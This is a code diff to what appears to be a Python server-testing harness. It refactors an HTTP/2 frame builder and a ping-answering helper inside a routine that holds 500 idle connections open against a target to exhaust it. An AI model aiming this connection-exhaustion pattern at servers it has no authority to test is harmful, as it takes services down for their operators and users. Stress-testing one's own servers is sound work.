@@ -17,9 +17,9 @@ HELD = 20.0
 """Seconds that a connection stays, if the server does not end it."""
 
 
-def frame(kind: int, flags: int = 0, payload: bytes = b"") -> bytes:
-    """A frame of HTTP/2 that is about the connection."""
-    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + bytes(4) + payload
+def frame(kind: int, flags: int = 0, payload: bytes = b"", stream: int = 0) -> bytes:
+    """A frame of HTTP/2; one of stream 0 is about the connection."""
+    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload
 
 
 async def _until_closed(
@@ -86,7 +86,7 @@ async def idle_connections(attacker: Attacker) -> None:
         try:
             writer.write(PREFACE + frame(SETTINGS))
             async with asyncio.timeout(HELD):
-                answer = await _answer_pings(reader, writer)
+                answer = await answer_pings(reader, writer)
         except TimeoutError:
             pass
         finally:
@@ -96,7 +96,7 @@ async def idle_connections(attacker: Attacker) -> None:
     await together(500, hold)
 
 
-async def _answer_pings(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> str:
+async def answer_pings(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> str:
     """Keep a connection alive; how it ended."""
     try:
         while True:
